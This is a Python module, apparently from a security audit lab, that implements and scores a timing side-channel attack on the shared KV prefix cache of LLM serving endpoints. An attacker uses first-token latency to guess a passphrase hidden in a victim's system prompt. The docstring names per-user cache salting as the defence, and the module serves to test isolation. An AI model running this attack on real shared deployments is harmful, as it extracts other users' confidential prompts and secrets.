"""What an attacker learns: a dictionary attack on a passphrase in the victim's system prompt, by
timing.

The victim's prompt is an operator template with a secret in it: known text, ``The passphrase is
<secret>.``, more known text, then the victim's own question. The attacker knows the template and a
list of ``k`` candidates, one of them right. For each candidate it sends the template filled with
that candidate (and a question of its own) and times the first token; it guesses the fastest.

A right candidate hits the victim's cached blocks up to the end of the known text; a wrong one only
up to the block in which the passphrase starts. Caching works in whole blocks, so the known text
after the passphrase must *complete* the passphrase's block for the right guess to gain anything:
with blocks longer than that text, every candidate is served alike and the attack is at chance
(1/k). With a per-user ``cache_salt`` (or per-tenant isolation) the attacker never sees the victim's
blocks.

Before each trial's guesses the attacker sends the template with a decoy candidate, so its own
blocks before the passphrase are cached whatever the isolation: every candidate then starts from the
same cache, and the first one probed is not slowed by a cold prefix.
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from dataclasses import dataclass

from .client import Endpoint, Timing, measure
from .procedure import Probe
from .prompts import letters_for, random_letters

__all__ = [
    "ALPHABET",
    "Guess",
    "Template",
    "accuracy",
    "chance_pvalue",
    "make_template",
    "random_passphrase",
    "run_dictionary_attack",
]

ALPHABET = "ABCDEFGHJKLMNPQRSTUVWXYZ23456789"  # no I, O, 0, 1


def random_passphrase(rng: random.Random, length: int = 6) -> str:
    """A passphrase of ``length`` characters from ``ALPHABET``."""
    return "".join(rng.choice(ALPHABET) for _ in range(length))


@dataclass(frozen=True)
class Template:
    """The operator's system prompt around the secret: ``before + passphrase + after``; the question
    follows."""

    before: str
    after: str

    def fill(self, passphrase: str, question: str) -> str:
        """The whole prompt with ``passphrase`` in its place and ``question`` at the end."""
        return f"{self.before}{passphrase}{self.after}{question}"


def make_template(before_tokens: int = 64, after_tokens: int = 64, tokens_per_letter: float = 1.0,
                  seed: int = 0) -> Template:
    """A template with about ``before_tokens`` of known text before the passphrase and
    ``after_tokens`` after it.

    Spaced random letters stand in for the operator's text (fixed by ``seed``: the attacker knows
    it).
    """
    rng = random.Random(f"kvlab-audit-template:{seed}")
    before = " ".join(random_letters(rng, letters_for(before_tokens, tokens_per_letter)))
    after = " ".join(random_letters(rng, letters_for(after_tokens, tokens_per_letter)))
    return Template(f"System: {before}\nThe passphrase is ", f".\n{after}\nUser: ")


@dataclass(frozen=True)
class Guess:
    """One trial: the secret, the candidates in the order probed, their TTFTs, and the attacker's
    guess."""

    secret: str
    candidates: tuple[str, ...]
    ttfts: tuple[float, ...]  # seconds, in the order of ``candidates``
    cached: tuple[int | None, ...]  # the server's cached tokens per candidate, when it reports them

    @property
    def guess(self) -> str:
        """The candidate with the shortest TTFT."""
        return self.candidates[min(range(len(self.ttfts)), key=self.ttfts.__getitem__)]

    @property
    def correct(self) -> bool:
        """Whether the fastest candidate was the secret."""
        return self.guess == self.secret


def accuracy(guesses: Sequence[Guess]) -> float:
    """The share of trials whose fastest candidate was the secret (chance: 1/k)."""
    if not guesses:
        raise ValueError("no trials")
    return sum(g.correct for g in guesses) / len(guesses)


def chance_pvalue(guesses: Sequence[Guess]) -> float:
    """One-sided binomial test: the probability of at least this many right guesses if each were
    luck (1/k)."""
    from scipy.stats import binomtest

    if not guesses:
        raise ValueError("no trials")
    k = len(guesses[0].candidates)
    return float(
        binomtest(
            sum(g.correct for g in guesses), len(guesses), 1 / k, alternative="greater"
        ).pvalue
    )


def run_dictionary_attack(
    victim: Endpoint,
    attacker: Endpoint,
    k: int,
    trials: int,
    template: Template,
    question_tokens: int = 16,
    tokens_per_letter: float = 1.0,
    seed: int = 0,
    probe: Probe | None = None,
) -> list[Guess]:
    """Per trial: the victim sends the template with a fresh secret; the attacker times ``k``
    candidates once each."""
    import httpx

    if type(k) is not int or k < 2:
        raise ValueError(f"k (candidates per trial) must be an int >= 2, got {k!r}")
    if type(trials) is not int or trials < 1:
        raise ValueError(f"trials must be an int >= 1, got {trials!r}")
    rng = random.Random(f"kvlab-audit-dictionary:{seed}")
    n_question = letters_for(question_tokens, tokens_per_letter)
    question = lambda: " ".join(random_letters(rng, n_question))  # noqa: E731
    guesses = []
    with httpx.Client(timeout=120.0) as http:
        probe = probe or (lambda ep, prompt: measure(ep, prompt, http))
        for _ in range(trials):
            candidates = set()
            while len(candidates) < k:
                candidates.add(random_passphrase(rng))
            order = sorted(candidates)
            rng.shuffle(order)
            secret = rng.choice(order)
            probe(victim, template.fill(secret, question()))
            decoy = random_passphrase(rng)
            while decoy in candidates:
                decoy = random_passphrase(rng)
            # the attacker's own prefix, cached: not recorded
            probe(attacker, template.fill(decoy, question()))
            timings: list[Timing] = [probe(attacker, template.fill(c, question())) for c in order]
            guesses.append(Guess(secret, tuple(order), tuple(t.ttft for t in timings),
                                 tuple(t.cached_tokens for t in timings)))
    return guesses
